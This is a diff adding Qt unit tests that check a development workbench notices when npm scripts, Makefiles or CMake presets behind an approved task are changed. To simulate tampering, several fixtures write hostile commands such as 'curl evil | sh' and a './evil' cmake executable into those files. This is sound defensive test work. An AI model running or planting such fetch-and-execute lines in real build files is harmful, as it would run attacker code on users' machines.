@@ -5,6 +5,7 @@
 #include <QtTest>
 
 #include "workbench/tasks/find_tasks.h"
+#include "workbench/tasks/led_to.h"
 #include "workbench/tasks/shell_line.h"
 
 using namespace waferpair::workbench;
@@ -61,6 +62,156 @@ class TestFindTasks : public QObject {
     QCOMPARE(tasks.tasks.size(), 6);
     QCOMPARE(tasks.tasks.last().source, QStringLiteral("yarn"));
     QCOMPARE(tasks.tasks.last().folder, folder_->filePath("web"));
+  }
+
+  // The script's own words are a part of what is agreed to, and so is what it runs.
+  void whatAScriptSaysIsGiven() {
+    write("package.json",
+          R"({"scripts": {"build": "tsc && npm run pack", "prebuild": "rm -rf out", "pack": "tar x",
+                          "lint": "eslint", "all": "run-s build:*", "build:a": "a"}})");
+    write("Makefile", "all:\n\t./x\n");
+    const QVector<Task> tasks = findTasks(folder_->path(), {}).tasks;
+    const auto given = [&](const QString& name, const char* source = "npm") {
+      for (const Task& task : tasks)
+        if (task.name == name && task.source == QLatin1String(source))
+          return startOf(task, folder_->path());
+      return GivenStart{};
+    };
+    const GivenStart build = given("build");
+    QCOMPARE(build.source, QStringLiteral("package.json"));
+    QCOMPARE(build.shown(), (QStringList{"command = npm run build", "folder = .", "kind = build",
+                                         "name = build", "scripts.build = tsc && npm run pack",
+                                         "scripts.pack = tar x", "scripts.prebuild = rm -rf out"}));
+    QCOMPARE(given("all").given["scripts"].toObject().keys(), (QStringList{"all", "build:a"}));
+    const GivenStart lint = given("lint");
+    // What it is by now counts, not what it was when it was found.
+    write("package.json",
+          R"({"scripts": {"build": "tsc && npm run pack", "prebuild": "rm -rf out",
+                          "pack": "curl evil | sh", "lint": "eslint"}})");
+    QVERIFY(given("build").key() != build.key());
+    QCOMPARE(given("lint").key(), lint.key());
+  }
+
+  // What make reads is a part of what is agreed to, however it is called.
+  void aChangedMakefileIsAnotherStart_data() {
+    QTest::addColumn<QString>("line");
+    QTest::addColumn<QStringList>("files");
+    QTest::newRow("its own") << "make all" << QStringList({"Makefile", "more.mk"});
+    QTest::newRow("of a folder") << "make -C sub all" << QStringList{"sub/makefile"};
+    QTest::newRow("in one word") << "gmake -Csub" << QStringList{"sub/makefile"};
+    QTest::newRow("by its long name") << "make --directory=sub" << QStringList{"sub/makefile"};
+    QTest::newRow("behind cd") << "cd sub && make" << QStringList{"sub/makefile"};
+    QTest::newRow("named") << "make -f other.mk x" << QStringList{"other.mk"};
+    QTest::newRow("of just") << "just it" << QStringList{"justfile"};
+    QTest::newRow("its own script") << "sh tools/x.sh" << QStringList{"tools/x.sh"};
+  }
+  void aChangedMakefileIsAnotherStart() {
+    QFETCH(QString, line);
+    QFETCH(QStringList, files);
+    for (const char* each : {"sub/makefile", "other.mk", "justfile", "tools/x.sh", "more.mk"})
+      write(each, "all:\n\t./x\n");
+    write("Makefile", "include more.mk $(OTHERS) # and\n-include made.d\nall:\n\t./x\n");
+    write("made.d", "");
+    Task task;
+    task.name = "b";
+    task.source = ".waferpair/tasks.json";
+    task.command = shellLine(line);
+    task.folder = folder_->path();
+    const GivenStart before = startOf(task, folder_->path());
+    QCOMPARE(before.given["files"].toObject().keys(), files);
+    QCOMPARE(startOf(task, folder_->path()).key(), before.key());
+    for (const QString& each : files) {
+      write(each, "all:\n\tcurl evil | sh\n");
+      const GivenStart now = startOf(task, folder_->path());
+      QVERIFY2(now.key() != before.key(), qPrintable(each));
+      QVERIFY(now.shown() != before.shown());
+      // What follows from the file itself is no different from what was written down.
+      task.source = "make";
+      QVERIFY(!startOf(task, folder_->path()).given.isEmpty());
+      task.source = ".waferpair/tasks.json";
+    }
+  }
+
+  // Presets say what is run, and a file that they include says it as well.
+  void aChangedPresetIsAnotherStart() {
+    write("CMakeLists.txt", "project(x)\n");
+    write("CMakePresets.json", R"({"version": 4, "include": ["cmake/base.json", "$penv{X}/p.json"],
+      "configurePresets": [{"name": "release", "inherits": ["base", "base"]}, {"name": "other"}],
+      "buildPresets": [{"name": "release", "configurePreset": "release", "targets": ["all"]}],
+      "workflowPresets": [{"name": "whole", "steps": [{"type": "configure", "name": "release"},
+                                                       {"type": "build", "name": "release"}]}]})");
+    write("cmake/base.json", R"({"version": 4, "include": ["../CMakePresets.json"],
+      "configurePresets": [{"name": "base", "hidden": true, "cmakeExecutable": "cmake"}]})");
+    const auto given = [&](const QString& name) {
+      for (const Task& task : findTasks(folder_->path(), {}).tasks)
+        if (task.name == name) return startOf(task, folder_->path());
+      return GivenStart{};
+    };
+    const GivenStart build = given("build release"), other = given("configure other"),
+                     whole = given("workflow whole");
+    QCOMPARE(build.source, QStringLiteral("CMakePresets.json"));
+    QCOMPARE(build.shown().filter("presets."),
+             (QStringList{"presets.buildPresets.release.configurePreset = release",
+                          "presets.buildPresets.release.name = release",
+                          "presets.buildPresets.release.targets[1] = all",
+                          "presets.configurePresets.base.cmakeExecutable = cmake",
+                          "presets.configurePresets.base.hidden = true",
+                          "presets.configurePresets.base.name = base",
+                          "presets.configurePresets.release.inherits[1] = base",
+                          "presets.configurePresets.release.inherits[2] = base",
+                          "presets.configurePresets.release.name = release"}));
+    QCOMPARE(build.decidedBy, (QStringList{"$penv{X}/p.json", "CMakeLists.txt"}));
+    QCOMPARE(whole.given["presets"].toObject().keys(),
+             (QStringList{"buildPresets", "configurePresets", "workflowPresets"}));
+    write("cmake/base.json", R"({"version": 4, "configurePresets":
+      [{"name": "base", "hidden": true, "cmakeExecutable": "./evil"}]})");
+    QVERIFY(given("build release").key() != build.key());
+    QVERIFY(given("workflow whole").key() != whole.key());
+    QCOMPARE(given("configure other").key(), other.key());
+    // Through a line that somebody wrote down as well.
+    const LedTo led = ledTo("cmake --build --preset=release -j4 && ctest", folder_->path());
+    QCOMPARE(led.presets, given("build release").given["presets"].toObject());
+    // The code that is built is the folder's own.
+    QVERIFY(ledTo("cmake --build build", folder_->path()).isEmpty());
+    write("CMakePresets.json",
+          R"({"include": ["CMakePresets.json", "/dev/zero", "missing.json"]})");
+    QCOMPARE(ledTo("cmake --preset x", folder_->path()).decidedBy,
+             (QStringList{"/dev/zero", "CMakeLists.txt", "missing.json"}));
+  }
+
+  void whatALineLeadsTo_data() {
+    QTest::addColumn<QString>("line");
+    QTest::addColumn<QStringList>("scripts");
+    QTest::addColumn<QStringList>("decidedBy");
+    const QStringList none;
+    QTest::newRow("nothing") << "echo a" << none << none;
+    QTest::newRow("run") << "npm run a" << QStringList{"a"} << none;
+    QTest::newRow("without run") << "npm test" << QStringList{"posttest", "test"} << none;
+    QTest::newRow("yarn") << "A=1 yarn a && true" << QStringList{"a"} << none;
+    QTest::newRow("round and round") << "pnpm run x" << QStringList({"x", "y"}) << none;
+    QTest::newRow("another folder") << "npm --prefix web run b" << QStringList{"web/b"} << none;
+    QTest::newRow("cd") << "(cd web; npm run b)" << QStringList{"web/b"} << none;
+    QTest::newRow("make") << "make -j4 all" << none << QStringList{"Makefile"};
+    QTest::newRow("in a script") << "npm run m" << QStringList{"m"} << QStringList{"Makefile"};
+    QTest::newRow("cmake") << "cmake --build build" << none << QStringList{"CMakeLists.txt"};
+    QTest::newRow("its own script")
+        << "cmake -P tools/x.sh && ninja" << none << QStringList({"CMakeLists.txt", "build.ninja"});
+    QTest::newRow("a word alone") << "echo a x y" << none << none;
+  }
+  void whatALineLeadsTo() {
+    QFETCH(QString, line);
+    QFETCH(QStringList, scripts);
+    QFETCH(QStringList, decidedBy);
+    write("package.json", R"({"scripts": {"a": "tsc", "test": "jest", "posttest": "echo",
+                              "x": "npm run y", "y": "npm run x", "m": "make"}})");
+    write("web/package.json", R"({"scripts": {"b": "vite"}})");
+    write("tools/x.sh", "");
+    write("tools/run", "");
+    QFile::setPermissions(folder_->filePath("tools/run"),
+                          QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
+    const LedTo led = ledTo(line, folder_->path());
+    QCOMPARE(led.scripts.keys(), scripts);
+    QCOMPARE(led.decidedBy, decidedBy);
   }
 
   void cargoGoMesonAndPython() {
